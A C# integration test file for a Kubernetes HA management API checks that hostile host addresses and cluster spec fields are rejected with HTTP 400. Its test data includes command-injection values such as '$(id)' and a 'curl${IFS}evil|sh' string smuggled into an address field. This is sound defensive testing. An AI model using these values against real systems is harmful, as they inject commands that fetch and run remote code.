using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using KubeHa.Web.Tests.Infrastructure;

namespace KubeHa.Web.Tests.Security;

/// <summary>
/// Hostile and ambiguous values through the public API: refused with 400 on the field concerned (never stored, never a
/// 5xx), and valid addresses stored in their canonical form.
/// </summary>
[Trait("Category", "Integration")]
public sealed class HostileInputApiTests : IClassFixture<HostileInputApiTests.App>
{
    private static int _nextAddress;
    private readonly App _app;

    public HostileInputApiTests(App app) => _app = app;

    public sealed class App : KubeHaAppFactory
    {
        public App()
            : base(null, AdminPassword, new Dictionary<string, string?> { ["KubeHa:Agent:Embedded"] = "false" })
        {
        }
    }

    [Theory]
    [InlineData("fe80::1%$(id)")]
    [InlineData("::ffff:10.1.1.5%;curl${IFS}evil|sh;#")]
    [InlineData("010.0.0.1")]
    [InlineData("0xa.0.0.1")]
    [InlineData("10.0.0.1;id")]
    [InlineData("w1\nid")]
    public async Task PostHost_HostileAddress_400OnAddressNothingStored(string address)
    {
        var client = await _app.AdminClientAsync();
        var credential = await CredentialAsync(client);

        using var response = await client.PostAsJsonAsync("/api/v1/hosts", new { name = $"h-{Guid.NewGuid():N}", address, port = 22, username = "kubeha", credentialId = credential });
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True(body.GetProperty("errors").TryGetProperty("address", out _) || body.GetProperty("errors").TryGetProperty("Address", out _), body.ToString());
        var hosts = await client.GetFromJsonAsync<JsonElement>("/api/v1/hosts");
        Assert.DoesNotContain(hosts.EnumerateArray(), h => h.GetProperty("address").GetString() == address);
    }

    [Theory]
    [InlineData("[2001:DB8:0:0::10]", "2001:db8::10")]
    [InlineData(" 10.77.9.1 ", "10.77.9.1")]
    [InlineData("Node-9.Example.COM", "node-9.example.com")]
    public async Task PostHost_ValidAddress_StoredInCanonicalForm(string address, string canonical)
    {
        var client = await _app.AdminClientAsync();
        var credential = await CredentialAsync(client);

        using var response = await client.PostAsJsonAsync("/api/v1/hosts", new { name = $"h-{Guid.NewGuid():N}", address, port = 22, username = "kubeha", credentialId = credential });
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        Assert.Equal(canonical, body.GetProperty("address").GetString());
    }

    [Theory]
    [InlineData("\"cni\": 42")]
    [InlineData("\"loadBalancerMode\": 1")]
    [InlineData("\"apiServerCertSans\": null")]
    [InlineData("\"apiServerCertSans\": [\"api;id\"]")]
    [InlineData("\"podSubnet\": \"0xa.0xf4.0.0/16\"")]
    [InlineData("\"virtualIpPrefixLength\": 99")]
    [InlineData("\"virtualIp\": \"fe80::1%$(id)\"")]
    [InlineData("\"controlPlaneEndpointHost\": \"api$(id)\"")]
    [InlineData("\"kubernetesVersion\": null")]
    public async Task PostCluster_MalformedSpecField_400NeverA5xx(string field)
    {
        var client = await _app.AdminClientAsync();
        var credential = await CredentialAsync(client);
        var host = await HostAsync(client, credential);
        var name = "c" + Guid.NewGuid().ToString("N")[..10];
        var json = $$"""{"name": "{{name}}", "spec": { {{field}} }, "hosts": [{"hostId": {{host}}, "roles": ["control-plane"]}]}""";

        using var response = await client.PostAsync("/api/v1/clusters", new StringContent(json, Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
    }

    private static async Task<int> CredentialAsync(HttpClient client)
    {
        using var response = await client.PostAsJsonAsync("/api/v1/credentials", new { name = $"c-{Guid.NewGuid():N}", kind = "password", password = "Sup3r-secret-ssh-password" });
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt32();
    }

    private static async Task<int> HostAsync(HttpClient client, int credential)
    {
        using var response = await client.PostAsJsonAsync("/api/v1/hosts", new { name = $"h-{Guid.NewGuid():N}", address = $"10.77.8.{Interlocked.Increment(ref _nextAddress)}", port = 22, username = "kubeha", credentialId = credential });
        return (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt32();
    }
}
